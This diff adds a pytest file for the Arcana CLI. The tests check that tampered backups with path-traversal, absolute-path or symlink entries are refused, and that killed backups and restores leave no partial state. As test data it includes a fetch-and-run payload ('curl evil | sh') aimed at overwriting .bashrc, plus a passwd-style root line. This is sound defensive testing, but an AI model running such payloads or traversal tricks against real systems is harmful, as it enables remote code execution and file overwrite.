@@ -1,0 +1,222 @@
+"""A tampered backup gets nowhere: verify and restore refuse entries that leave the home, all or nothing.
+
+Each attack edits a real backup's manifest (with a matching size and sha256,
+so only the path check can catch it) or swaps a file for a symlink; the same
+home's untampered backup restores as the positive control. Killed backups and
+restores are real processes killed with SIGKILL.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import signal
+import subprocess
+import sys
+import textwrap
+import time
+from pathlib import Path
+
+import pytest
+
+from arcana_cli import exit_codes
+
+ARCANA = [sys.executable, "-m", "arcana_cli.main"]
+
+
+def _backup(cli, tmp_path) -> Path:
+    assert cli("remember", "the deploy runs on Tuesdays", "--agent", "ada").exit_code == 0
+    result = cli("backup", str(tmp_path / "backups"), "--json")
+    assert result.exit_code == 0, result.stderr
+    return Path(json.loads(result.stdout)["path"])
+
+
+def _manifest(folder: Path) -> dict:
+    return json.loads((folder / "manifest.json").read_text())
+
+
+def _write_manifest(folder: Path, body: dict) -> None:
+    (folder / "manifest.json").write_text(json.dumps(body))
+
+
+def _add_entry(folder: Path, rel: str, data: bytes, *, place: Path | None = None) -> None:
+    """List ``rel`` in the manifest with the size and sha256 of ``data`` (written at ``place``)."""
+    if place is not None:
+        place.parent.mkdir(parents=True, exist_ok=True)
+        place.write_bytes(data)
+    body = _manifest(folder)
+    body["files"].append({"path": rel, "kind": "file", "size": len(data), "sha256": hashlib.sha256(data).hexdigest()})
+    _write_manifest(folder, body)
+
+
+def _refused(cli, folder: Path, home: Path, what: str) -> None:
+    verify = cli("backup", str(folder), "--verify")
+    assert verify.exit_code == exit_codes.FAILURE, verify.stdout + verify.stderr
+    assert what in verify.stdout + verify.stderr
+    restore = cli("--home", str(home), "restore", str(folder))
+    assert restore.exit_code == exit_codes.FAILURE, restore.stderr
+    assert "Traceback" not in restore.stderr and restore.stderr.startswith("arcana: error:")
+    assert "nothing was restored" in restore.stderr
+    assert not home.exists() or not any(home.iterdir()), sorted(home.rglob("*"))
+
+
+@pytest.fixture
+def fresh(tmp_path) -> Path:
+    return tmp_path / "fresh-home"
+
+
+def test_the_untampered_backup_restores(cli, tmp_path, fresh, no_embedder):
+    folder = _backup(cli, tmp_path)
+    assert cli("backup", str(folder), "--verify").exit_code == 0
+    assert cli("--home", str(fresh), "restore", str(folder)).exit_code == 0
+    assert "Tuesdays" in cli("--home", str(fresh), "recall", "deploy", "--agent", "ada").stdout
+    assert not list(fresh.glob(".restore-*"))
+
+
+def test_a_dotdot_entry_never_overwrites_a_file_outside_the_home(cli, tmp_path, fresh, no_embedder):
+    folder = _backup(cli, tmp_path)
+    bashrc = fresh.parent / ".bashrc"
+    bashrc.write_text("the user's own\n")
+    payload = b"curl evil | sh\n"
+    _add_entry(folder, "../.bashrc", payload, place=folder.parent / ".bashrc")
+    _refused(cli, folder, fresh, "../.bashrc")
+    assert bashrc.read_text() == "the user's own\n"
+
+
+def test_an_absolute_entry_is_refused_before_anything_is_restored(cli, tmp_path, fresh, no_embedder):
+    folder = _backup(cli, tmp_path)
+    target = tmp_path / "outside.txt"
+    _add_entry(folder, str(target), b"planted\n", place=target)  # the path names itself: sizes and sums match
+    _refused(cli, folder, fresh, "absolute")
+    assert target.read_bytes() == b"planted\n"
+
+
+@pytest.mark.parametrize("files", ["not a list", [1], [{"path": "config.json"}], [{"path": 3, "kind": "file"}]])
+def test_a_malformed_manifest_is_one_line_not_a_traceback(cli, tmp_path, fresh, files, no_embedder):
+    folder = _backup(cli, tmp_path)
+    _write_manifest(folder, {**_manifest(folder), "files": files})
+    for args in (("backup", str(folder), "--verify"), ("--home", str(fresh), "restore", str(folder))):
+        result = cli(*args)
+        assert result.exit_code == exit_codes.FAILURE
+        assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
+        assert result.stderr.startswith("arcana: error:") and "cannot be trusted" in result.stderr
+    assert not fresh.exists()
+
+
+def test_a_nested_manifest_is_one_line(cli, tmp_path, fresh, no_embedder):
+    folder = _backup(cli, tmp_path)
+    (folder / "manifest.json").write_text("[" * 100_000 + "]" * 100_000)
+    result = cli("backup", str(folder), "--verify")
+    assert result.exit_code == exit_codes.FAILURE and result.stderr.startswith("arcana: error:")
+
+
+def test_a_database_swapped_for_a_symlink_is_refused(cli, tmp_path, fresh, no_embedder):
+    folder = _backup(cli, tmp_path)
+    secret = tmp_path / "secret.txt"
+    secret.write_bytes(b"root:x:0:0:root:/root:/bin/bash\n")
+    body = _manifest(folder)
+    entry = next(e for e in body["files"] if e["kind"] == "database")
+    db = folder / entry["path"]
+    db.unlink()
+    db.symlink_to(secret)
+    entry.update(size=secret.stat().st_size, sha256=hashlib.sha256(secret.read_bytes()).hexdigest())
+    _write_manifest(folder, body)
+    _refused(cli, folder, fresh, "symlink")
+
+
+def test_an_entry_under_a_symlinked_folder_is_refused(cli, tmp_path, fresh, no_embedder):
+    folder = _backup(cli, tmp_path)
+    outside = tmp_path / "elsewhere"
+    outside.mkdir()
+    (outside / "x.json").write_text("{}")
+    (folder / "sessions-link").symlink_to(outside, target_is_directory=True)
+    _add_entry(folder, "sessions-link/x.json", b"{}")
+    _refused(cli, folder, fresh, "symlink")
+
+
+def test_a_backup_folder_and_its_manifest_are_private(cli, tmp_path, no_embedder):
+    old = os.umask(0o022)
+    try:
+        folder = _backup(cli, tmp_path)
+    finally:
+        os.umask(old)
+    assert folder.stat().st_mode & 0o777 == 0o700
+    assert (folder / "manifest.json").stat().st_mode & 0o777 == 0o600
+    for path in folder.rglob("*"):
+        assert path.stat().st_mode & 0o077 == 0, path
+
+
+def _arcana(*args, home: Path, **kw) -> subprocess.Popen:
+    return subprocess.Popen([*ARCANA, *args], env={**os.environ, "ARCANA_HOME": str(home)},
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)
+
+
+def _big_home(cli, arcana_home) -> None:
+    """A home with a 96 MiB file, so a backup or restore of it takes long enough to be killed midway."""
+    assert cli("remember", "kept across the kill", "--agent", "ada").exit_code == 0
+    blob = arcana_home.root / "sessions-archive.bin"
+    with blob.open("wb") as handle:
+        for _ in range(96):
+            handle.write(os.urandom(1 << 20))
+
+
+def _kill_when(proc: subprocess.Popen, ready, timeout: float = 60) -> None:
+    deadline = time.monotonic() + timeout
+    while not ready():
+        assert proc.poll() is None, proc.communicate()
+        assert time.monotonic() < deadline, "never got there"
+        time.sleep(0.002)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+
+
+def test_a_killed_restore_leaves_the_home_empty_and_the_next_one_completes(cli, arcana_home, tmp_path, fresh, no_embedder):
+    _big_home(cli, arcana_home)
+    folder = Path(json.loads(cli("backup", str(tmp_path / "backups"), "--json").stdout)["path"])
+    proc = _arcana("restore", str(folder), home=fresh)
+    _kill_when(proc, lambda: any(p.stat().st_size > (8 << 20) for p in fresh.glob(".restore-*/sessions-archive.bin")))
+    assert [p.name for p in fresh.iterdir() if not p.name.startswith(".restore-")] == []  # nothing half-restored
+    done = subprocess.run([*ARCANA, "restore", str(folder)], env={**os.environ, "ARCANA_HOME": str(fresh)},
+                          capture_output=True, text=True, timeout=120)
+    assert done.returncode == 0, done.stderr
+    assert not list(fresh.glob(".restore-*"))
+    assert "kept across the kill" in cli("--home", str(fresh), "recall", "kept", "--agent", "ada").stdout
+
+
+HOLDER = textwrap.dedent(
+    """
+    import sys, time
+    from pathlib import Path
+    from memory.operations.backup import _claim
+    fd = _claim(Path(sys.argv[1]))
+    print("held", flush=True)
+    time.sleep(60)
+    """
+)
+
+
+def test_killed_backups_partial_folders_are_cleaned_and_a_running_ones_kept(cli, arcana_home, tmp_path, no_embedder):
+    _big_home(cli, arcana_home)
+    dest = tmp_path / "backups"
+    proc = _arcana("backup", str(dest), home=arcana_home.root)
+    _kill_when(proc, lambda: any(p.stat().st_size > (8 << 20) for p in dest.glob("*.partial/sessions-archive.bin")))
+    killed = list(dest.glob("*.partial"))
+    assert len(killed) == 1
+    stale = dest / "arcana-backup-20200101T000000Z.partial"  # an older Arcana's, with no lock file
+    stale.mkdir()
+    (stale / "config.json").write_text("{}")
+    os.utime(stale, (time.time() - 3600, time.time() - 3600))
+    live = dest / "arcana-backup-20990101T000000Z.partial"
+    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(live)], stdout=subprocess.PIPE, text=True)
+    try:
+        assert holder.stdout.readline().strip() == "held"
+        time.sleep(1.1)  # the next backup gets a new stamp
+        result = cli("backup", str(dest), "--json")
+        assert result.exit_code == 0, result.stderr
+        assert not killed[0].exists() and not stale.exists()
+        assert live.is_dir()  # its owner still runs: kept
+        assert cli("backup", json.loads(result.stdout)["path"], "--verify").exit_code == 0
+    finally:
+        holder.kill()
+        holder.wait()
